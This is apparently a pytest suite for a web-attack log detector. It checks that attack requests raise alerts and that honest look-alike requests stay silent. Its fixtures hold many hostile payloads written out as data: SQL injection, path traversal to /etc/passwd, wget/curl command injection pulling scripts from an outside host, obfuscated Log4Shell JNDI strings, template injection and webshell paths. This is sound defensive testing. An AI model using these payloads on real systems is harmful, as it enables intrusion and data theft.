"""Signatures of web attacks, the points they add up to, and what stays silent."""

import urllib.parse

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detect.detector import HOUR, Windows
from detect.rules.log.request import plain, requests
from detect.rules.log.signature import FAMILIES, SIGNATURES
from detect.rules.log.web_attack import WebAttackDetector, matches
from situation.assets import Assets
from situation.claim import Claim
from tests.detect.frames import (
    INSIDER,
    MORNING,
    OUTSIDER,
    WEB_SERVER,
    Row,
    asset,
    city,
    inspect,
    logs,
)
from tests.detect.frames import request as asked

DETECTOR = WebAttackDetector()
VISITORS = tuple(f"198.51.100.{number}" for number in range(150, 160))


def _claims(rows: list[Row], assets: Assets | None = None) -> tuple[Claim, ...]:
    return inspect(DETECTOR, logs(rows), assets or city()).claims


def _of(*targets: str, status: int = 200) -> tuple[Claim, ...]:
    rows = [asked(float(n), OUTSIDER, target, status=status) for n, target in enumerate(targets)]
    return _claims(rows)


ALONE = (
    "/list?id=1%20UNION%20ALL%20SELECT%20name,pass%20FROM%20users--",
    "/list?id=1+union/**/select+1,2,3",
    "/list?id=1/*!50000UnIoN*/ SeLeCt 1,user()",
    "/list?id=1%2520union%2520select%2520null,null",
    "/list?id=1%27%20and%20sleep(5)--+",
    "/list?id=1;waitfor delay '0:0:5'--",
    "/list?id=extractvalue(1,concat(0x7e,version()))",
    "/get?file=../../../../etc/passwd",
    "/get?file=..%2f..%2f..%2fetc%2fpasswd",
    "/get?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
    "/get?file=..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/ping?host=127.0.0.1;wget http://203.0.113.9/x.sh",
    "/ping?host=1|curl${IFS}http://203.0.113.9/x",
    "/ping?host=1;cat%20/bin/sh",
    "/?q=${jndi:ldap://203.0.113.9/a}",
    "/?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D",
    "/?q=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}",
    "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}",
    "/?name={{''.__class__.__mro__[1].__subclasses__()}}",
    "/?class.module.classLoader.resources.context.parent=1",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
    "/cgi-bin/../../bin/sh?-d allow_url_include=on",
)


@pytest.mark.parametrize("target", ALONE)
def test_one_request_that_nobody_sends_by_honest_means_is_an_attack(target: str) -> None:
    (claim,) = _of(target)
    assert claim.category == "web_attack"
    assert claim.subject == f"{OUTSIDER}>{WEB_SERVER}"


TOGETHER = (
    ("/a?id=1' or '1'='1", "/a?id=2' or 'x'='x"),
    ("/a?q=<script>x</script>", "/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("/.git/config", "/.env"),
    ("/uploads/2026/x.jsp", "/shell.php"),
    ("/a?file=php://filter/read", "/a?file=/etc/passwd"),
    ("/a?x={{7*7}}", "/a?x=${7*7}"),
    ("/a?cmd=eval(1)", "/b?cmd=system('id')"),
)


@pytest.mark.parametrize("targets", TOGETHER, ids=lambda one: one[0])
def test_requests_that_few_send_are_an_attack_together(targets: tuple[str, str]) -> None:
    assert len(_of(*targets)) == 1
    assert not _of(targets[0])


@pytest.mark.parametrize("part", ["agent", "referrer"])
def test_headers_are_looked_into(part: str) -> None:
    text = "${jndi:ldap://203.0.113.9/a}"
    row = (
        asked(0, OUTSIDER, "/", agent=text)
        if part == "agent"
        else asked(0, OUTSIDER, "/", referrer=text)
    )
    (claim,) = _claims([row])
    assert "JNDI" in claim.sentence_en


def test_a_scanning_tool_is_known_by_its_agent() -> None:
    rows = [asked(float(n), OUTSIDER, f"/{n}", agent="sqlmap/1.8") for n in range(2)]
    (claim,) = _claims(rows)
    assert claim.technique == "T1595.002"
    assert not _claims(rows[:1])


REST = (
    "/a?id=5 or 1=1",
    "/a?t=information_schema.tables",
    "/a?id=1'; drop table users",
    "/a?id=1' --",
    "/a?u=javascript:alert(1)",
    "/a?x=() { :;};id",
    "/www.zip",
    "/nacos/",
)

HONEST = (
    "/search?q=O'Reilly+and+sons",
    "/search?q=%22annual+report%22+or+%22budget%22",
    "/search?q=select+a+school+from+the+list",
    "/search?q=European+Union+select+committee",
    "/search?q=how+to+drop+a+course;+update+my+address",
    "/search?q=C%2B%2B+%26+C%23+--+which%3F",
    "/search?q=a+<+b+and+c+>+d",
    "/search?q=%E5%8C%97%E4%BA%AC%E5%B8%82%E6%94%BF%E5%8A%A1",
    "/search?q=%C0%AE%B0%C8%2F%C0%AF%D6%F2",
    "/search?q=%C0%AE%C0%AE+%C0%AF%C0%AF",
    "/%D6%D0%CE%C4/%C0%AF%D6%F2.html",
    "/search?q=%D1%A1%D4%F1' or '%C8%D5%C6%DA'",
    "/login?return=https%253A%252F%252Fwww.city.example%252Fa%252Fb",
    "/docs/../index.html",
    "/list?id=5&cat=3&ls=2&type=news&id=7&sh=1",
    "/list?sort=price;id=5;page=2",
    "/api?filter[status]=open&fields=id,name,from,select",
    "/api?expr=%7B%22a%22%3A%5B1%2C2%5D%7D",
    "/images/photo-of-shell.png",
    "/images/logo.php-conference.svg",
    "/news/2026/03/union-of-teachers-selects-a-new-chair",
    "/help/how-to-use-curl-and-wget",
    "/static/app.3f2a9c.js?v=${version}",
    "/form?amount=3*4&note=1%20%3D%201",
    "/wp-content/themes/city/style.css",
    "/a?" + "&".join(f"field{n}=value%20{n}" for n in range(300)),
)


@pytest.mark.parametrize("status", [200, 404])
@pytest.mark.parametrize("target", HONEST)
def test_odd_but_honest_requests_are_silent(target: str, status: int) -> None:
    others = (f"{target}#{n}" for n in range(2))
    assert not _of(target, target, *others, status=status)


def test_all_honest_requests_together_of_one_client_are_silent() -> None:
    assert not _of(*HONEST)


def test_one_odd_link_that_is_clicked_all_day_does_not_add_up() -> None:
    assert not _of(*["/a?id=1' or 'a'='a"] * 50)


def test_who_manages_a_site_may_use_its_pages_of_administration() -> None:
    pages = [f"/phpmyadmin/index.php?table={n}" for n in range(40)]
    assert not _of(*pages)
    assert len(_of(*pages, status=404)) == 1


def _probes(count: int = 4) -> list[Row]:
    return [
        asked(float(n), OUTSIDER, f"/a?id={n}' or '{n}'='{n}", status=404) for n in range(count)
    ]


def _others() -> list[Row]:
    return [
        asked(100.0 + n, visitor, page)
        for n, visitor in enumerate(VISITORS)
        for page in ("/index.php", "/news")
    ]


def test_a_program_that_answers_the_attacker_alone_may_be_a_success() -> None:
    shell = asked(300, OUTSIDER, "/res/x.jsp?c=1")
    (claim,) = _claims([*_probes(), *_others(), shell])
    assert (claim.category, claim.severity) == ("web_attack_success", 3)
    assert claim.evidence[0] == shell["event.id"]
    assert "/res/x.jsp" in claim.reasons[0].zh


@pytest.mark.parametrize(
    "row",
    [
        asked(300, OUTSIDER, "/index.php"),
        asked(300, OUTSIDER, "/news/only-he-read-this"),
        asked(300, OUTSIDER, "/res/x.jsp", status=404),
        asked(-300, OUTSIDER, "/res/y.jsp"),
    ],
    ids=["asked by all", "no program", "not there", "before the probes"],
)
def test_other_answers_are_no_success(row: Row) -> None:
    claims = _claims([*_probes(), *_others(), row])
    assert [claim.category for claim in claims] == ["web_attack"]


def test_where_nobody_else_comes_no_page_is_alone() -> None:
    (claim,) = _claims([*_probes(), asked(300, OUTSIDER, "/x.jsp")])
    assert claim.category == "web_attack"


def test_the_citys_scanner_may_probe() -> None:
    assert not _claims(_probes(), Assets([asset(f"{OUTSIDER}/32", "scanner")]))


def test_a_host_of_ours_that_attacks_owns_the_alert() -> None:
    rows = [row | {"source.ip": INSIDER} for row in _probes()]
    (claim,) = _claims(rows)
    assert (claim.host_ip, claim.severity) == (INSIDER, 3)


def test_an_address_in_parts_is_read_like_a_whole_one() -> None:
    rows = [row | {"url.original": None} for row in _probes()]
    assert len(_claims(rows)) == 1


def test_requests_of_which_little_is_known_break_nothing() -> None:
    names = ("url.original", "url.path", "url.query", "user_agent.original", "host.ip",
             "http.response.status_code", "http.request.method", "host.name")  # fmt: skip
    rows = [row | dict.fromkeys(names) for row in _probes()]
    assert not _claims(rows)


@settings(deadline=None)
@given(st.text(min_size=1, max_size=30), st.integers(0, 3))
def test_hidden_ascii_is_shown_again(text: str, layers: int) -> None:
    ascii_only = "".join(one for one in text.lower() if one.isascii() and one not in "%&+*/")
    hidden = ascii_only
    for _ in range(layers):
        hidden = "".join(f"%{ord(one):02X}" for one in hidden)
    shown = pl.DataFrame({"t": [hidden]}).select(plain(pl.col("t"))).item()
    assert shown == ascii_only


@settings(deadline=None)
@given(st.text(alphabet="的一是不了人我在有他这中大来上国' \"-_<>=()?!，。", max_size=40))
def test_chinese_text_with_punctuation_is_silent(text: str) -> None:
    targets = [f"/s?q={urllib.parse.quote(text, encoding=name)}" for name in ("utf-8", "gb18030")]
    assert not _of(*targets)


def test_every_signature_has_its_family_and_a_name_of_its_own() -> None:
    assert {one.family for one in SIGNATURES} <= FAMILIES.keys()
    names = [one.name for one in SIGNATURES]
    assert len(names) == len(set(names))
    assert {one.weight for one in SIGNATURES} <= {1, 2, 3}


def test_every_signature_is_carried_by_a_request_of_these_tests() -> None:
    frame = logs(_samples())
    hour = Windows((MORNING,), HOUR)
    carried = matches(requests(frame.select(*DETECTOR.columns), hour))
    assert set(carried["signature"]) == {one.name for one in SIGNATURES}


def _samples() -> list[Row]:
    targets = (*ALONE, *(one for pair in TOGETHER for one in pair), *REST)
    rows = [asked(float(n), OUTSIDER, target, status=404) for n, target in enumerate(targets)]
    texts = ("${jndi:ldap://203.0.113.9/a}", "() { :; }; /bin/id", "nikto/2.5", "zgrab/0.x")
    for n, text in enumerate(texts):
        rows.append(asked(500.0 + n, OUTSIDER, "/", status=404, agent=text, referrer=text))
    return rows


def test_points_do_not_depend_on_the_order_of_rows() -> None:
    rows = [*_probes(), *_others(), asked(300, OUTSIDER, "/res/x.jsp?c=1")]
    claims = _claims(rows)
    assert _claims(rows[::-1]) == claims
